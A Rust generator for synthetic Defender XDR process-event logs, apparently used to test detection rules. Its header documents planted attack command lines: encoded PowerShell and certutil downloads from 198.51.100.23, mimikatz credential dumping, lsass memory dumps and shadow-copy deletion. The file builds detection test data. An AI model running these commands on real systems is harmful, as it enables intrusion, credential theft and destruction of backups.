//! Microsoft Defender XDR's `DeviceProcessEvents` table as Microsoft Sentinel stores it (the
//! Microsoft Defender XDR connector): Defender's column names and types, one `ProcessCreated`
//! row per process start, at a real fleet's cardinality (by default 15,000 devices, a few
//! thousand distinct executables, command lines that are mostly unique), time-sorted over the
//! three days before 2024-05-03T00:00:00Z and written 64 Ki rows at a time.
//!
//! The background follows real Windows process trees: `wininit.exe -> services.exe ->
//! svchost.exe -k ... -p -s ...`, `svchost.exe -k DcomLaunch -> WmiPrvSE.exe / RuntimeBroker /
//! dllhost`, the task scheduler's children (`taskhostw`, `MpCmdRun`, updaters, `rundll32`
//! maintenance tasks), `userinit.exe -> explorer.exe -> user applications`, browser and Electron /
//! WebView2 child processes (the bulk of a real table, with long command lines), consoles and
//! their `conhost.exe`, SCCM / Intune / GPO / monitoring scripts (`cmd`, `powershell` and their
//! children), `msiexec` custom actions, installers run from Downloads and `Temp` folders (randomly
//! named, unsigned, without version info), Office children, developer tools (a `java -cp` tail
//! of ~2 KB command lines) and server workloads (IIS `w3wp`, SQL Server, Azure agents). Paths
//! come in the case variants Windows reports (`C:\Windows\System32`, `C:\WINDOWS\system32`,
//! `c:\windows\system32`); version information and hashes belong to the file (an OS binary's
//! follow the device's Windows build). `AdditionalFields` holds a small JSON object on about 5 %
//! of rows (the process start keys) and is empty otherwise, as are `AppGuardContainerId` and
//! the account UPN / object id of service accounts.
//!
//! Planted attacks (each one row; device names do not depend on the seed; with fewer devices
//! than the index, the index wraps):
//!
//! | when (UTC)          | device (index)                     | what |
//! |---------------------|------------------------------------|------|
//! | 2024-05-01 09:14:07 | ws-it-00042.corp.contoso.com (42) | `WINWORD.EXE` (a `.docm` from Downloads) -> `powershell.exe -nop -w hidden -enc SQBFAFgA...` (IEX DownloadString of http://198.51.100.23/a.ps1) |
//! | 2024-05-01 09:15:30 | ws-it-00042 (42)                   | `cmd.exe` -> `certutil.exe -urlcache -split -f http://198.51.100.23/stage2.exe C:\Users\Public\stage2.exe` |
//! | 2024-05-01 09:21:02 | ws-it-00042 (42)                   | `cmd.exe` -> `C:\Users\Public\Music\mk.exe "privilege::debug" "sekurlsa::logonpasswords" exit` (renamed mimikatz: OriginalFileName `mimikatz.exe`) |
//! | 2024-05-01 14:02:11 | srv-dc-00120.corp.contoso.com (120) | `powershell.exe` -> `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 704 C:\Windows\Temp\debug.dmp full` (lsass is pid 704) |
//! | 2024-05-02 02:47:55 | ws-sales-00311.corp.contoso.com (311) | `cmd.exe` -> `C:\Users\Public\procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp` |
//! | 2024-05-02 03:12:40 | srv-file-00510.corp.contoso.com (510) | `C:\Windows\Temp\svcupd.exe` -> `cmd.exe /c vssadmin delete shadows /all /quiet` -> `vssadmin.exe delete shadows /all /quiet` (SYSTEM) |
//!
//! The background also holds what real fleets do and rules may flag now and then (for example
//! `certutil -hashfile`, `whoami /upn` from Intune scripts, `rundll32` custom actions of MSI
//! installers, `csc.exe` under `w3wp.exe`), but none of the six above.

use std::collections::HashMap;
use std::fmt::Write as _;
use std::fs::File;
use std::path::Path;
use std::sync::Arc;
use std::sync::mpsc;
use std::time::Instant;

use arrow::array::{ArrayRef, BooleanBuilder, Int64Builder, RecordBatch, StringBuilder, TimestampMicrosecondArray};
use arrow::datatypes::{DataType, Field, Schema, TimeUnit};
use datafusion::parquet::arrow::ArrowWriter;
use datafusion::parquet::basic::{Compression, ZstdLevel};
use datafusion::parquet::file::properties::WriterProperties;
use datafusion::parquet::schema::types::ColumnPath;

use crate::network_session::{DAY1, END, HOUR, SECOND};
use crate::rng::Rng;

/// Rows generated and written at a time.
const BATCH: usize = 64 * 1024;
const HOURS: i64 = 72;
const MINUTE: i64 = 60 * SECOND;
const DAY: i64 = 24 * HOUR;

macro_rules! w {
    ($($arg:tt)*) => {{ let _ = write!($($arg)*); }};
}

#[derive(Clone, Copy)]
enum Kind {
    Str,
    Long,
    Time,
    Bool,
}

/// The table's columns in Defender's order, with their KQL types (string, long, datetime, bool).
const COLUMNS: &[(&str, Kind)] = {
    use Kind::*;
    &[
        ("TimeGenerated", Time),
        ("Timestamp", Time),
        ("DeviceId", Str),
        ("DeviceName", Str),
        ("ActionType", Str),
        ("FileName", Str),
        ("FolderPath", Str),
        ("SHA1", Str),
        ("SHA256", Str),
        ("MD5", Str),
        ("FileSize", Long),
        ("ProcessVersionInfoCompanyName", Str),
        ("ProcessVersionInfoProductName", Str),
        ("ProcessVersionInfoProductVersion", Str),
        ("ProcessVersionInfoInternalFileName", Str),
        ("ProcessVersionInfoOriginalFileName", Str),
        ("ProcessVersionInfoFileDescription", Str),
        ("ProcessId", Long),
        ("ProcessCommandLine", Str),
        ("ProcessIntegrityLevel", Str),
        ("ProcessTokenElevation", Str),
        ("ProcessCreationTime", Time),
        ("AccountDomain", Str),
        ("AccountName", Str),
        ("AccountSid", Str),
        ("AccountUpn", Str),
        ("AccountObjectId", Str),
        ("LogonId", Long),
        ("InitiatingProcessAccountDomain", Str),
        ("InitiatingProcessAccountName", Str),
        ("InitiatingProcessAccountSid", Str),
        ("InitiatingProcessAccountUpn", Str),
        ("InitiatingProcessAccountObjectId", Str),
        ("InitiatingProcessLogonId", Long),
        ("InitiatingProcessIntegrityLevel", Str),
        ("InitiatingProcessTokenElevation", Str),
        ("InitiatingProcessSHA1", Str),
        ("InitiatingProcessSHA256", Str),
        ("InitiatingProcessMD5", Str),
        ("InitiatingProcessFileName", Str),
        ("InitiatingProcessFileSize", Long),
        ("InitiatingProcessVersionInfoCompanyName", Str),
        ("InitiatingProcessVersionInfoProductName", Str),
        ("InitiatingProcessVersionInfoProductVersion", Str),
        ("InitiatingProcessVersionInfoInternalFileName", Str),
        ("InitiatingProcessVersionInfoOriginalFileName", Str),
        ("InitiatingProcessVersionInfoFileDescription", Str),
        ("InitiatingProcessId", Long),
        ("InitiatingProcessCommandLine", Str),
        ("InitiatingProcessCreationTime", Time),
        ("InitiatingProcessFolderPath", Str),
        ("InitiatingProcessParentId", Long),
        ("InitiatingProcessParentFileName", Str),
        ("InitiatingProcessParentCreationTime", Time),
        ("InitiatingProcessSignerType", Str),
        ("InitiatingProcessSignatureStatus", Str),
        ("ReportId", Long),
        ("AppGuardContainerId", Str),
        ("AdditionalFields", Str),
        ("ProcessRemoteSessionDeviceName", Str),
        ("ProcessRemoteSessionIP", Str),
        ("InitiatingProcessRemoteSessionDeviceName", Str),
        ("InitiatingProcessRemoteSessionIP", Str),
        ("IsProcessRemoteSession", Bool),
        ("IsInitiatingProcessRemoteSession", Bool),
        ("InitiatingProcessSessionId", Long),
        ("CreatedProcessSessionId", Long),
    ]
};

fn schema() -> Arc<Schema> {
    Arc::new(Schema::new(
        COLUMNS
            .iter()
            .map(|(name, kind)| {
                let t = match kind {
                    Kind::Str => DataType::Utf8,
                    Kind::Long => DataType::Int64,
                    Kind::Time => DataType::Timestamp(TimeUnit::Microsecond, Some("UTC".into())),
                    Kind::Bool => DataType::Boolean,
                };
                Field::new(*name, t, false)
            })
            .collect::<Vec<_>>(),
    ))
}

enum Col {
    Str(StringBuilder),
    Long(Int64Builder),
    Time(Vec<i64>),
    Bool(BooleanBuilder),
}

/// The columns of a batch being built: each row appends one value to every column, in
/// `COLUMNS` order.
struct Cols {
    cols: Vec<Col>,
    at: usize,
}

impl Cols {
    fn new(rows: usize) -> Cols {
        let cols = COLUMNS
            .iter()
            .map(|(_, kind)| match kind {
                Kind::Str => Col::Str(StringBuilder::with_capacity(rows, rows * 24)),
                Kind::Long => Col::Long(Int64Builder::with_capacity(rows)),
                Kind::Time => Col::Time(Vec::with_capacity(rows)),
                Kind::Bool => Col::Bool(BooleanBuilder::with_capacity(rows)),
            })
            .collect();
        Cols { cols, at: 0 }
    }

    fn s(&mut self, v: &str) {
        match &mut self.cols[self.at] {
            Col::Str(b) => b.append_value(v),
            _ => panic!("{} is not a string column", COLUMNS[self.at].0),
        }
        self.at += 1;
    }

    fn l(&mut self, v: i64) {
        match &mut self.cols[self.at] {
            Col::Long(b) => b.append_value(v),
            _ => panic!("{} is not a long column", COLUMNS[self.at].0),
        }
        self.at += 1;
    }

    /// A datetime, given in nanoseconds (stored in microseconds).
    fn t(&mut self, ns: i64) {
        match &mut self.cols[self.at] {
            Col::Time(v) => v.push(ns / 1_000),
            _ => panic!("{} is not a datetime column", COLUMNS[self.at].0),
        }
        self.at += 1;
    }

    fn b(&mut self, v: bool) {
        match &mut self.cols[self.at] {
            Col::Bool(b) => b.append_value(v),
            _ => panic!("{} is not a bool column", COLUMNS[self.at].0),
        }
        self.at += 1;
    }

    fn end_row(&mut self) {
        assert_eq!(self.at, COLUMNS.len(), "a row must fill every column");
        self.at = 0;
    }

    fn finish(self, schema: &Arc<Schema>) -> Result<RecordBatch, String> {
        let columns: Vec<ArrayRef> = self
            .cols
            .into_iter()
            .map(|c| -> ArrayRef {
                match c {
                    Col::Str(mut b) => Arc::new(b.finish()),
                    Col::Long(mut b) => Arc::new(b.finish()),
                    Col::Time(v) => Arc::new(TimestampMicrosecondArray::from(v).with_timezone("UTC")),
                    Col::Bool(mut b) => Arc::new(b.finish()),
                }
            })
            .collect();
        RecordBatch::try_new(schema.clone(), columns).map_err(|e| e.to_string())
    }
}

// ---------------------------------------------------------------------------------------------
// Deterministic helpers

/// SplitMix64's finaliser: the identity of a file, device or user decides its hashes and ids,
/// so nothing but the catalog is held.
fn mix(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

fn hash_str(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.bytes() {
        h = (h ^ b as u64).wrapping_mul(0x0100_0000_01b3);
    }
    mix(h)
}

const HEX: &[u8; 16] = b"0123456789abcdef";
const HEX_UP: &[u8; 16] = b"0123456789ABCDEF";
const ALNUM: &[u8; 36] = b"abcdefghijklmnopqrstuvwxyz0123456789";

/// Appends `n` hex digits derived from `seed`.
fn hex(s: &mut String, seed: u64, n: usize, upper: bool) {
    let digits = if upper { HEX_UP } else { HEX };
    let mut word = 0;
    for i in 0..n {
        if i % 16 == 0 {
            word = mix(seed.wrapping_add((i as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15)));
        }
        s.push(digits[(word & 15) as usize] as char);
        word >>= 4;
    }
}

fn hex_string(seed: u64, n: usize) -> String {
    let mut s = String::with_capacity(n);
    hex(&mut s, seed, n, false);
    s
}

/// Appends a GUID (8-4-4-4-12 hex digits) derived from `seed`.
fn guid(s: &mut String, seed: u64, upper: bool) {
    let mut g = String::with_capacity(32);
    hex(&mut g, seed, 32, upper);
    w!(s, "{}-{}-{}-{}-{}", &g[..8], &g[8..12], &g[12..16], &g[16..20], &g[20..]);
}

fn guid_string(seed: u64, upper: bool) -> String {
    let mut s = String::with_capacity(36);
    guid(&mut s, seed, upper);
    s
}

/// Appends `n` lower-case letters and digits derived from `seed`.
fn alnum(s: &mut String, seed: u64, n: usize, upper: bool) {
    let mut word = mix(seed);
    for i in 0..n {
        if i % 10 == 9 {
            word = mix(word ^ i as u64);
        }
        let c = ALNUM[(word % 36) as usize] as char;
        s.push(if upper { c.to_ascii_uppercase() } else { c });
        word /= 36;
    }
}

/// A Windows process id (a multiple of 4).
fn pid(rng: &mut Rng) -> i64 {
    4 * rng.range(60, 16_000)
}

/// A process id that stays the same for a device (and `k`), as a long-running process's does.
fn stable_pid(salt: u64, k: u64, lo: i64, span: u64) -> i64 {
    4 * (lo + (mix(salt ^ k.wrapping_mul(0x2545_f491_4f6c_dd1d)) % span) as i64)
}

// ---------------------------------------------------------------------------------------------
// The executables

/// Windows builds of the fleet (the version an OS binary reports) and whether it is a server's.
const BUILDS: &[(&str, bool)] = &[
    ("10.0.19041.4291", false),
    ("10.0.19041.4170", false),
    ("10.0.19041.3996", false),
    ("10.0.22621.3447", false),
    ("10.0.22621.3296", false),
    ("10.0.17763.5696", true),
    ("10.0.20348.2402", true),
    ("10.0.20348.2340", true),
];

/// OS binaries: file, folder under `C:\Windows` (`{b}`: a WinSxS component's build and hash),
/// original file name, description. One image per build.
const SYS: &[(&str, &str, &str, &str)] = &[
    ("smss.exe", "System32", "smss.exe", "Windows Session Manager"),
    ("csrss.exe", "System32", "CSRSS.Exe", "Client Server Runtime Process"),
    ("wininit.exe", "System32", "wininit.exe", "Windows Start-Up Application"),
    ("winlogon.exe", "System32", "WINLOGON.EXE", "Windows Logon Application"),
    ("services.exe", "System32", "services.exe", "Services and Controller app"),
    ("lsass.exe", "System32", "lsass.exe", "Local Security Authority Process"),
    ("svchost.exe", "System32", "svchost.exe", "Host Process for Windows Services"),
    ("userinit.exe", "System32", "USERINIT.EXE", "Userinit Logon Application"),
    ("explorer.exe", "", "EXPLORER.EXE", "Windows Explorer"),
    ("sihost.exe", "System32", "sihost.exe", "Shell Infrastructure Host"),
    ("taskhostw.exe", "System32", "taskhostw.exe", "Host Process for Windows Tasks"),
    ("ctfmon.exe", "System32", "CTFMON.EXE", "CTF Loader"),
    ("dwm.exe", "System32", "dwm.exe", "Desktop Window Manager"),
    ("fontdrvhost.exe", "System32", "fontdrvhost.exe", "Usermode Font Driver Host"),
    ("LogonUI.exe", "System32", "LogonUI.exe", "Windows Logon User Interface Host"),
    ("conhost.exe", "System32", "CONHOST.EXE", "Console Window Host"),
    ("cmd.exe", "System32", "Cmd.Exe", "Windows Command Processor"),
    ("powershell.exe", r"System32\WindowsPowerShell\v1.0", "PowerShell.EXE", "Windows PowerShell"),
    ("rundll32.exe", "System32", "RUNDLL32.EXE", "Windows host process (Rundll32)"),
    ("dllhost.exe", "System32", "dllhost.exe", "COM Surrogate"),
    ("WmiPrvSE.exe", r"System32\wbem", "Wmiprvse.exe", "WMI Provider Host"),
    ("WMIC.exe", r"System32\wbem", "wmic.exe", "WMI Commandline Utility"),
    ("WMIADAP.exe", r"System32\wbem", "WMIADAP.EXE", "WMI Reverse Performance Adapter Maintenance Utility"),
    ("msiexec.exe", "System32", "msiexec.exe", "Windows® installer"),
    ("RuntimeBroker.exe", "System32", "RuntimeBroker.exe", "Runtime Broker"),
    ("backgroundTaskHost.exe", "System32", "backgroundTaskHost.exe", "Background Task Host"),
    ("smartscreen.exe", "System32", "smartscreen.exe", "Windows Defender SmartScreen"),
    ("SearchIndexer.exe", "System32", "SearchIndexer.exe", "Microsoft Windows Search Indexer"),
    ("SearchProtocolHost.exe", "System32", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"),
    ("SearchFilterHost.exe", "System32", "SearchFilterHost.exe", "Microsoft Windows Search Filter Host"),
    ("spoolsv.exe", "System32", "spoolsv.exe", "Spooler SubSystem App"),
    ("splwow64.exe", "", "splwow64.exe", "Print driver host for applications"),
    ("sppsvc.exe", "System32", "sppsvc.exe", "Microsoft Software Protection Platform Service"),
    ("SppExtComObj.Exe", "System32", "SppExtComObj.exe", "KMS Connection Broker"),
    (
        "TiWorker.exe",
        r"WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_{b}",
        "TiWorker.exe",
        "Windows Modules Installer Worker",
    ),
    ("TrustedInstaller.exe", "servicing", "TrustedInstaller.exe", "Windows Modules Installer"),
    ("DismHost.exe", "Temp", "DismHost.exe", "Dism Host Servicing Process"),
    ("consent.exe", "System32", "consent.exe", "Consent UI for administrative applications"),
    ("WerFault.exe", "System32", "WerFault.exe", "Windows Problem Reporting"),
    ("wermgr.exe", "System32", "wermgr.exe", "Windows Problem Reporting"),
    ("MoUsoCoreWorker.exe", "System32", "MoUsoCoreWorker.exe", "MoUSO Core Worker Process"),
    ("usoclient.exe", "System32", "UsoClient", "UsoClient"),
    ("sihclient.exe", "System32", "SIHClient.exe", "SIH Client"),
    ("CompatTelRunner.exe", "System32", "CompatTelRunner.exe", "Microsoft Compatibility Telemetry"),
    ("DeviceCensus.exe", "System32", "DeviceCensus.exe", "Device Census"),
    ("wsqmcons.exe", "System32", "wsqmcons.exe", "Windows SQM Consolidator"),
    ("defrag.exe", "System32", "Defrag.EXE", "Disk Defragmenter Module"),
    ("cleanmgr.exe", "System32", "CLEANMGR.EXE", "Disk Space Cleanup Manager for Windows"),
    ("Dism.exe", "System32", "DISM.EXE", "Dism Image Servicing Utility"),
    ("gpupdate.exe", "System32", "GPUpdate.exe", "Microsoft® Windows Group Policy Update Utility"),
    ("gpscript.exe", "System32", "GPSCRIPT.EXE", "Group Policy Script Application"),
    ("dsregcmd.exe", "System32", "dsregcmd.exe", "DSREG commandline extension"),
    ("mobsync.exe", "System32", "mobsync.exe", "Microsoft Sync Center"),
    ("ApplicationFrameHost.exe", "System32", "ApplicationFrameHost.exe", "Application Frame Host"),
    ("SecurityHealthService.exe", "System32", "SecurityHealthService.exe", "Windows Security Health Service"),
    ("SecurityHealthSystray.exe", "System32", "SecurityHealthSystray.exe", "Windows Security notification icon"),
    ("SgrmBroker.exe", "System32", "SgrmBroker.exe", "System Guard Runtime Monitor Broker Service"),
    ("audiodg.exe", "System32", "audiodg.exe", "Windows Audio Device Graph Isolation"),
    ("UserOOBEBroker.exe", r"System32\oobe", "UserOOBEBroker.exe", "User OOBE Broker"),
    ("SystemSettingsBroker.exe", "System32", "SystemSettingsBroker.exe", "System Settings Broker"),
    ("BackgroundTransferHost.exe", "System32", "BackgroundTransferHost.exe", "Background Transfer Host"),
    (
        "StartMenuExperienceHost.exe",
        r"SystemApps\Microsoft.Windows.StartMenuExperienceHost_cw5n1h2txyewy",
        "StartMenuExperienceHost.exe",
        "Windows Start Experience Host",
    ),
    ("SearchHost.exe", r"SystemApps\MicrosoftWindows.Client.CBS_cw5n1h2txyewy", "SearchHost.exe", "Search application"),
    (
        "ShellExperienceHost.exe",
        r"SystemApps\ShellExperienceHost_cw5n1h2txyewy",
        "ShellExperienceHost.exe",
        "Windows Shell Experience Host",
    ),
    ("TextInputHost.exe", r"SystemApps\MicrosoftWindows.Client.CBS_cw5n1h2txyewy", "TextInputHost.exe", "Text Input Host"),
    ("LockApp.exe", r"SystemApps\Microsoft.LockApp_cw5n1h2txyewy", "LockApp.exe", "LockApp.exe"),
    ("notepad.exe", "System32", "NOTEPAD.EXE", "Notepad"),
    ("mspaint.exe", "System32", "MSPAINT.EXE", "Paint"),
    ("calc.exe", "System32", "CALC.EXE", "Windows Calculator"),
    ("mstsc.exe", "System32", "mstsc.exe", "Remote Desktop Connection"),
    ("Taskmgr.exe", "System32", "Taskmgr.exe", "Task Manager"),
    ("regedit.exe", "", "REGEDIT.EXE", "Registry Editor"),
    ("mmc.exe", "System32", "MMC.EXE", "Microsoft Management Console"),
    ("control.exe", "System32", "CONTROL.EXE", "Windows Control Panel"),
    ("SnippingTool.exe", "System32", "SnippingTool.exe", "Snipping Tool"),
    ("net.exe", "System32", "net.exe", "Net Command"),
    ("net1.exe", "System32", "net1.exe", "Net Command"),
    ("ipconfig.exe", "System32", "ipconfig.exe", "IP Configuration Utility"),
    ("PING.EXE", "System32", "ping.exe", "TCP/IP Ping Command"),
    ("NETSTAT.EXE", "System32", "netstat.exe", "TCP/IP Netstat Command"),
    ("nslookup.exe", "System32", "nslookup.exe", "nslookup"),
    ("ROUTE.EXE", "System32", "route.exe", "TCP/IP Route Command"),
    ("netsh.exe", "System32", "netsh.exe", "Network Command Shell"),
    ("HOSTNAME.EXE", "System32", "hostname.exe", "Hostname APP"),
    ("whoami.exe", "System32", "whoami.exe", "whoami - displays logged on user information"),
    ("systeminfo.exe", "System32", "sysinfo.exe", "Displays system information"),
    ("tasklist.exe", "System32", "tasklist.exe", "Lists the current running tasks."),
    ("taskkill.exe", "System32", "taskkill.exe", "Terminates Processes"),
    ("findstr.exe", "System32", "FINDSTR.EXE", "Find String (QGREP) Utility"),
    ("find.exe", "System32", "find.exe", "Find String (grep) Utility"),
    ("sort.exe", "System32", "sort.exe", "Sort Utility"),
    ("chcp.com", "System32", "chcp.com", "Change CodePage Utility"),
    ("timeout.exe", "System32", "timeout.exe", "timeout - pauses command processing"),
    ("where.exe", "System32", "where.exe", "Where - Lists location of files"),
    ("xcopy.exe", "System32", "XCOPY.EXE", "Extended Copy Utility"),
    ("Robocopy.exe", "System32", "robocopy.exe", "Microsoft® Robocopy"),
    ("attrib.exe", "System32", "ATTRIB.EXE", "Attribute Utility"),
    ("icacls.exe", "System32", "iCACLS.EXE", "icacls"),
    ("reg.exe", "System32", "reg.exe", "Registry Console Tool"),
    ("sc.exe", "System32", "sc.exe", "Service Control Manager Configuration Tool"),
    ("schtasks.exe", "System32", "schtasks.exe", "Task Scheduler Configuration Tool"),
    ("certutil.exe", "System32", "CertUtil.exe", "CertUtil.exe"),
    ("bitsadmin.exe", "System32", "bitsadmin.exe", "BITS administration utility"),
    ("vssadmin.exe", "System32", "VSSADMIN.EXE", "Command Line Interface for Microsoft® Volume Shadow Copy Service "),
    ("VSSVC.exe", "System32", "VSSVC.EXE", "Microsoft® Volume Shadow Copy Service"),
    ("bcdedit.exe", "System32", "bcdedit.exe", "Boot Configuration Data Editor"),
    ("wevtutil.exe", "System32", "wevtutil.exe", "Eventing Command Line Utility"),
    ("powercfg.exe", "System32", "PowerCfg.exe", "Power Settings Command-Line Tool"),
    ("pnputil.exe", "System32", "PnPutil.exe", "Microsoft PnP Utility"),
    ("drvinst.exe", "System32", "DrvInst.exe", "Driver Package Installer"),
    ("mshta.exe", "System32", "MSHTA.EXE", "Microsoft (R) HTML Application host"),
    ("regsvr32.exe", "System32", "REGSVR32.EXE", "Microsoft(C) Register Server"),
    ("wscript.exe", "System32", "wscript.exe", "Microsoft ® Windows Based Script Host"),
    ("cscript.exe", "System32", "cscript.exe", "Microsoft ® Console Based Script Host"),
    ("nltest.exe", "System32", "nltestrk.exe", "Microsoft® Logon Server Test Utility"),
    ("quser.exe", "System32", "quser.exe", "Query User Utility"),
    ("shutdown.exe", "System32", "shutdown.exe", "Windows Shutdown and Annotation Tool"),
    ("tzsync.exe", "System32", "tzsync.exe", "Time Zone Sync"),
    ("w32tm.exe", "System32", "w32tm.exe", "Windows Time Service Diagnostic Tool"),
    ("wuauclt.exe", "System32", "wuauclt.exe", "Windows Update"),
    ("lodctr.exe", "System32", "LODCTR.EXE", "Load PerfMon Counters"),
    ("w3wp.exe", r"System32\inetsrv", "w3wp.exe", "IIS Worker Process"),
    ("ngen.exe", r"Microsoft.NET\Framework64\v4.0.30319", "ngen.exe", "Microsoft Common Language Runtime native compiler"),
    ("mscorsvw.exe", r"Microsoft.NET\Framework64\v4.0.30319", "mscorsvw.exe", ".NET Runtime Optimization Service"),
    ("csc.exe", r"Microsoft.NET\Framework64\v4.0.30319", "csc.exe", "Visual C# Command Line Compiler"),
    ("cvtres.exe", r"Microsoft.NET\Framework64\v4.0.30319", "CVTRES.EXE", "Microsoft® Resource File To COFF Object Conversion Utility"),
    ("msiexec.exe", "SysWOW64", "msiexec.exe", "Windows® installer"),
    ("rundll32.exe", "SysWOW64", "RUNDLL32.EXE", "Windows host process (Rundll32)"),
    ("cmd.exe", "SysWOW64", "Cmd.Exe", "Windows Command Processor"),
];

/// Applications: key, folder (`{v}`: the version's folder part, `{u}`: the user's profile
/// folder name), file, company, product, description, original file name, versions ("folder
/// part|product version", or one string for both; the first is the newest), signer.
type App = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static [&'static str],
    &'static str,
);

const EDGE_VERSIONS: &[&str] = &["124.0.2478.80", "124.0.2478.67", "123.0.2420.97", "122.0.2365.92"];
const CHROME_VERSIONS: &[&str] = &["124.0.6367.119", "124.0.6367.92", "123.0.6312.123", "122.0.6261.129"];
const OFFICE_VERSIONS: &[&str] = &["16.0.17425.20176", "16.0.17328.20282", "16.0.17231.20236", "16.0.16731.20636"];
const DEFENDER_VERSIONS: &[&str] = &["4.18.24030.9-0|4.18.24030.9", "4.18.24020.7-0|4.18.24020.7", "4.18.23110.3-0|4.18.23110.3"];
const MS: &str = "Microsoft Corporation";
const WINDOWS: &str = "Microsoft® Windows® Operating System";

const APPS: &[App] = &[
    (
        "chrome",
        r"C:\Program Files\Google\Chrome\Application",
        "chrome.exe",
        "Google LLC",
        "Google Chrome",
        "Google Chrome",
        "chrome.exe",
        CHROME_VERSIONS,
        "ThirdParty",
    ),
    (
        "chrome_user",
        r"C:\Users\{u}\AppData\Local\Google\Chrome\Application",
        "chrome.exe",
        "Google LLC",
        "Google Chrome",
        "Google Chrome",
        "chrome.exe",
        CHROME_VERSIONS,
        "ThirdParty",
    ),
    (
        "chrome_elevation",
        r"C:\Program Files\Google\Chrome\Application\{v}",
        "elevation_service.exe",
        "Google LLC",
        "Google Chrome",
        "Google Chrome",
        "elevation_service.exe",
        CHROME_VERSIONS,
        "ThirdParty",
    ),
    (
        "chrome_setup",
        r"C:\Program Files\Google\Chrome\Application\{v}\Installer",
        "setup.exe",
        "Google LLC",
        "Google Chrome Installer",
        "Google Chrome Installer",
        "mini_installer.exe",
        CHROME_VERSIONS,
        "ThirdParty",
    ),
    (
        "msedge",
        r"C:\Program Files (x86)\Microsoft\Edge\Application",
        "msedge.exe",
        MS,
        "Microsoft Edge",
        "Microsoft Edge",
        "msedge.exe",
        EDGE_VERSIONS,
        "Microsoft",
    ),
    (
        "identity_helper",
        r"C:\Program Files (x86)\Microsoft\Edge\Application\{v}",
        "identity_helper.exe",
        MS,
        "Microsoft Edge",
        "Microsoft Edge",
        "identity_helper.exe",
        EDGE_VERSIONS,
        "Microsoft",
    ),
    (
        "msedgewebview2",
        r"C:\Program Files (x86)\Microsoft\EdgeWebView\Application\{v}",
        "msedgewebview2.exe",
        MS,
        "Microsoft Edge WebView2",
        "Microsoft Edge WebView2",
        "msedgewebview2.exe",
        EDGE_VERSIONS,
        "Microsoft",
    ),
    (
        "edgeupdate",
        r"C:\Program Files (x86)\Microsoft\EdgeUpdate",
        "MicrosoftEdgeUpdate.exe",
        MS,
        "Microsoft Edge Update",
        "Microsoft Edge Update",
        "MicrosoftEdgeUpdate.exe",
        &["1.3.185.29", "1.3.185.17", "1.3.183.39"],
        "Microsoft",
    ),
    (
        "edge_installer",
        r"C:\Program Files (x86)\Microsoft\EdgeUpdate\Install",
        "setup.exe",
        MS,
        "Microsoft Edge Installer",
        "Microsoft Edge Installer",
        "mini_installer.exe",
        EDGE_VERSIONS,
        "Microsoft",
    ),
    (
        "googleupdate",
        r"C:\Program Files (x86)\Google\Update",
        "GoogleUpdate.exe",
        "Google LLC",
        "Google Update",
        "Google Installer",
        "GoogleUpdate.exe",
        &["1.3.36.372", "1.3.36.352"],
        "ThirdParty",
    ),
    (
        "googleupdater",
        r"C:\Program Files (x86)\Google\GoogleUpdater\{v}",
        "updater.exe",
        "Google LLC",
        "GoogleUpdater",
        "GoogleUpdater",
        "updater.exe",
        &["126.0.6462.0", "125.0.6387.0", "124.0.6367.0"],
        "ThirdParty",
    ),
    (
        "firefox",
        r"C:\Program Files\Mozilla Firefox",
        "firefox.exe",
        "Mozilla Corporation",
        "Firefox",
        "Firefox",
        "firefox.exe",
        &["125.0.3", "125.0.2", "115.10.0"],
        "ThirdParty",
    ),
    (
        "outlook",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "OUTLOOK.EXE",
        MS,
        "Microsoft Outlook",
        "Microsoft Outlook",
        "Outlook.exe",
        OFFICE_VERSIONS,
        "Microsoft",
    ),
    (
        "winword",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "WINWORD.EXE",
        MS,
        "Microsoft Word",
        "Microsoft Word",
        "WinWord.exe",
        OFFICE_VERSIONS,
        "Microsoft",
    ),
    (
        "excel",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "EXCEL.EXE",
        MS,
        "Microsoft Excel",
        "Microsoft Excel",
        "Excel.exe",
        OFFICE_VERSIONS,
        "Microsoft",
    ),
    (
        "powerpnt",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "POWERPNT.EXE",
        MS,
        "Microsoft PowerPoint",
        "Microsoft PowerPoint",
        "POWERPNT.EXE",
        OFFICE_VERSIONS,
        "Microsoft",
    ),
    (
        "c2r",
        r"C:\Program Files\Common Files\microsoft shared\ClickToRun",
        "OfficeClickToRun.exe",
        MS,
        "Microsoft Office",
        "Microsoft Office Click-to-Run (SxS)",
        "OfficeClickToRun.exe",
        OFFICE_VERSIONS,
        "Microsoft",
    ),
    (
        "c2rclient",
        r"C:\Program Files\Common Files\microsoft shared\ClickToRun",
        "OfficeC2RClient.exe",
        MS,
        "Microsoft Office",
        "Microsoft Office Click-to-Run Client",
        "OfficeC2RClient.exe",
        OFFICE_VERSIONS,
        "Microsoft",
    ),
    (
        "teams",
        r"C:\Program Files\WindowsApps\MSTeams_{v}_x64__8wekyb3d8bbwe",
        "ms-teams.exe",
        MS,
        "Microsoft Teams",
        "Microsoft Teams",
        "ms-teams.exe",
        &["24074.2321.2810.3500", "24060.3102.2733.5911", "24033.813.2773.520"],
        "AppStore",
    ),
    (
        "terminal",
        r"C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_{v}_x64__8wekyb3d8bbwe",
        "WindowsTerminal.exe",
        MS,
        "Windows Terminal",
        "Windows Terminal",
        "WindowsTerminal.exe",
        &["1.19.11213.0", "1.19.10821.0", "1.18.10301.0"],
        "AppStore",
    ),
    (
        "onedrive",
        r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive",
        "OneDrive.exe",
        MS,
        "Microsoft OneDrive",
        "Microsoft OneDrive",
        "OneDrive.exe",
        &["24.076.0414.0005", "24.070.0407.0003", "24.055.0317.0002"],
